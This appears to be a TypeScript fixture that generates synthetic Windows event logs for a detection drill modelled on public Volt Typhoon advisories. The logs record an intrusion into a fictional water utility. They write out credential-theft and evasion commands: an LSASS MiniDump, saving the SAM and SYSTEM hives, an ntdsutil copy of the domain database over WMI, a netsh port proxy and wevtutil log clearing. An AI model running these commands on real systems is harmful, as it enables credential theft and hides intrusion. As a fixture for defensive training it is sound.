/**
 * What the intruder did, as the logs saw it. The steps are those of the public advisories on Volt Typhoon (AA23-144A,
 * AA24-038A): a stolen password over the VPN, built-in tools only, credentials, an archive with a password, a port
 * proxy, cleared logs, and weeks later a return with another account. It is log text; nothing of it runs.
 */
import type { EvtxEvent } from '../../src/read/sources/evtx/write/index.ts';
import type { Random } from '../../src/run/drill/random.ts';
import {
  directoryCopied,
  logCleared,
  remoteSession,
  scriptBlock,
  wmiFailed,
  wmiProviderStarted,
} from './others.ts';
import * as security from './security.ts';
import { at, hosts, outside, people, system } from './site.ts';
import * as sysmon from './sysmon.ts';

const cmd = 'C:\\Windows\\System32\\cmd.exe';
const system32 = 'C:\\Windows\\System32\\';

/** The jump host, entered over the VPN with an operator's password. */
export function onJumpHost(random: Random): EvtxEvent[] {
  const { jump } = hosts;
  const who = people.operator;
  const logonId = 0x551686;
  const events: EvtxEvent[] = [
    remoteSession(jump, at('2026-10-06 02:11:07'), 21, who, 3, outside.first),
    remoteSession(jump, at('2026-10-06 03:02:44'), 24, who, 3, outside.first),
    remoteSession(jump, at('2026-10-08 01:47:30'), 21, who, 4, outside.first),
    remoteSession(jump, at('2026-10-08 02:49:58'), 24, who, 4, outside.first),
  ];
  let pid = 5120;
  const typed = (time: string, program: string, commandLine: string): number => {
    pid += 4 * random.whole(3, 60);
    events.push(
      sysmon.processCreated(
        {
          host: jump,
          time: at(time),
          who,
          logonId,
          session: 3,
          pid,
          parentPid: 5008,
          image: `${system32}${program}`,
          commandLine,
          parent: cmd,
          parentCommandLine: '"C:\\Windows\\System32\\cmd.exe" ',
        },
        random,
      ),
    );
    return pid;
  };
  typed('2026-10-06 02:13:20', 'whoami.exe', 'whoami  /all');
  typed(
    '2026-10-06 02:14:02',
    'wbem\\WMIC.exe',
    'wmic  path win32_logicaldisk get caption,filesystem,freespace,size,volumename',
  );
  typed('2026-10-06 02:15:41', 'net.exe', 'net  group "Domain Admins" /dom');
  typed('2026-10-06 02:16:09', 'net.exe', 'net  localgroup administrators');
  typed('2026-10-06 02:17:55', 'nltest.exe', 'nltest  /dclist:wairua-water.test');
  typed('2026-10-06 02:19:30', 'netsh.exe', 'netsh  interface firewall show all');
  const dump = typed(
    '2026-10-06 02:31:12',
    'rundll32.exe',
    'rundll32  C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\Windows\\Temp\\lsass.dmp full',
  );
  events.push(
    sysmon.fileCreated(
      jump,
      at('2026-10-06 02:31:13'),
      who,
      dump,
      `${system32}rundll32.exe`,
      'C:\\Windows\\Temp\\lsass.dmp',
    ),
  );
  typed('2026-10-06 02:40:26', 'reg.exe', 'reg  save hklm\\sam C:\\Windows\\Temp\\ss.dat');
  typed('2026-10-06 02:40:51', 'reg.exe', 'reg  save hklm\\system C:\\Windows\\Temp\\sy.dat');
  typed(
    '2026-10-08 01:52:13',
    'wbem\\WMIC.exe',
    'wmic  /node:192.0.2.10 /user:"WAIRUA\\adm.hollis" /password:"Kereru-1906!" process call create "cmd.exe /c mkdir C:\\Windows\\Temp\\pro & ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\pro\\" q q"',
  );
  const proxy = typed(
    '2026-10-08 02:31:40',
    'netsh.exe',
    'netsh  interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=192.0.2.10 connectport=8443 protocol=tcp',
  );
  events.push(
    sysmon.registrySet(
      jump,
      at('2026-10-08 02:31:41'),
      proxy,
      `${system32}netsh.exe`,
      'HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/9999',
      '192.0.2.10/8443',
    ),
  );
  events.push(
    sysmon.connected(
      {
        host: jump,
        time: at('2026-10-08 02:34:02'),
        who: system,
        pid: 1480,
        image: `${system32}svchost.exe`,
      },
      { address: outside.first, port: 8443, name: '-' },
      random,
    ),
    scriptBlock(
      jump,
      at('2026-10-06 02:24:18'),
      who,
      5344,
      "Get-EventLog security -instanceid 4624 -after '2026-09-06' | Where-Object { $_.Message -match 'adm.hollis' } | Select-Object -Property * | Out-File user.dat",
      '1f0c9a52-6f6b-4c43-9d3e-2b4f6a1f7c11',
    ),
  );
  return events;
}

/** The domain controller: reached over WMI, its database copied, the log cleared. */
export function onDomainController(): EvtxEvent[] {
  const { dc, jump } = hosts;
  const who = people.administrator;
  const logonId = 0x8f21c4;
  const target = { who, logonId };
  const wmi = `${system32}wbem\\WmiPrvSE.exe`;
  const run = (
    time: string,
    pid: number,
    parentPid: number,
    image: string,
    parent: string,
    commandLine: string,
  ): EvtxEvent =>
    security.processCreated({
      host: dc,
      time: at(time),
      subject: 'machine',
      subjectLogonId: 0x3e4,
      target,
      pid,
      parentPid,
      image,
      parent,
      commandLine,
    });
  const ifm = 'ntdsutil  "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro" q q';
  return [
    security.logon({ host: dc, time: at('2026-10-08 01:52:14'), who, logonId, type: 3, from: jump.address }),
    security.specialPrivileges(dc, at('2026-10-08 01:52:14'), who, logonId),
    run('2026-10-08 01:52:15', 0x1a2c, 0xd38, cmd, wmi, `cmd.exe /c mkdir C:\\Windows\\Temp\\pro & ${ifm}`),
    run('2026-10-08 01:52:16', 0x1b70, 0x1a2c, `${system32}ntdsutil.exe`, cmd, ifm),
    run(
      '2026-10-08 02:20:48',
      0x1c94,
      0xd38,
      'C:\\Windows\\Temp\\7z.exe',
      wmi,
      'C:\\Windows\\Temp\\7z.exe a -pTangaroa#42 -v100m C:\\Windows\\Temp\\McAfee_Logs.7z C:\\Windows\\Temp\\pro',
    ),
    run('2026-10-08 02:43:55', 0x1dfc, 0xd38, `${system32}wevtutil.exe`, wmi, 'wevtutil  cl Security'),
    security.logoff(dc, at('2026-10-08 02:43:50'), who, logonId, 3),
    security.securityLogCleared(dc, at('2026-10-08 02:43:56'), who, logonId),
    ...directoryCopied(
      dc,
      at('2026-10-08 01:52:21'),
      0x1b70,
      '202610080152',
      'C:\\Windows\\Temp\\pro\\Active Directory\\ntds.dit',
    ),
    // The first try is refused, the second starts a provider; both reach the collector.
    wmiFailed(
      dc,
      at('2026-10-08 01:50:47'),
      jump,
      people.operator,
      'Start IWbemServices::ExecMethod - root\\cimv2 : Win32_Process::Create',
      0x80041003,
    ),
    wmiProviderStarted(dc, at('2026-10-08 01:52:14'), 'CIMWin32', 'cimwin32.dll'),
    logCleared(dc, at('2026-10-08 02:44:12'), who, 'Microsoft-Windows-PowerShell/Operational'),
    // Weeks later, from another router, with an account that was in the copied database.
    security.logon({
      host: dc,
      time: at('2026-11-02 03:05:31'),
      who: people.backup,
      logonId: 0xb10442,
      type: 10,
      from: outside.later,
      workstation: 'DC1',
    }),
  ];
}

/** The file server, whose 4688 events carry no command lines: engineering drawings are read from the jump host. */
export function onFileServer(): EvtxEvent[] {
  const { files, jump } = hosts;
  const who = people.backup;
  const logonId = 0x77d0e1;
  const read = (time: string, file: string): EvtxEvent =>
    security.shareAccess(files, at(time), who, logonId, 'Engineering', file, jump.address);
  return [
    security.logon({
      host: files,
      time: at('2026-11-02 03:14:02'),
      who,
      logonId,
      type: 3,
      from: jump.address,
    }),
    security.shareOpened(files, at('2026-11-02 03:14:38'), who, logonId, 'Engineering', jump.address),
    read('2026-11-02 03:14:40', 'SCADA\\Pump stations\\PS-07 switchgear.dwg'),
    read('2026-11-02 03:15:12', 'SCADA\\PLC backups\\treatment-plant.acd'),
    read('2026-11-02 03:15:49', 'SCADA\\Network\\OT addressing.xlsx'),
    security.processCreated({
      host: files,
      time: at('2026-11-02 03:18:20'),
      subject: who,
      subjectLogonId: logonId,
      pid: 0x9e4,
      parentPid: 0x8a0,
      image: 'C:\\Windows\\Temp\\7z.exe',
      parent: cmd,
    }),
  ];
}
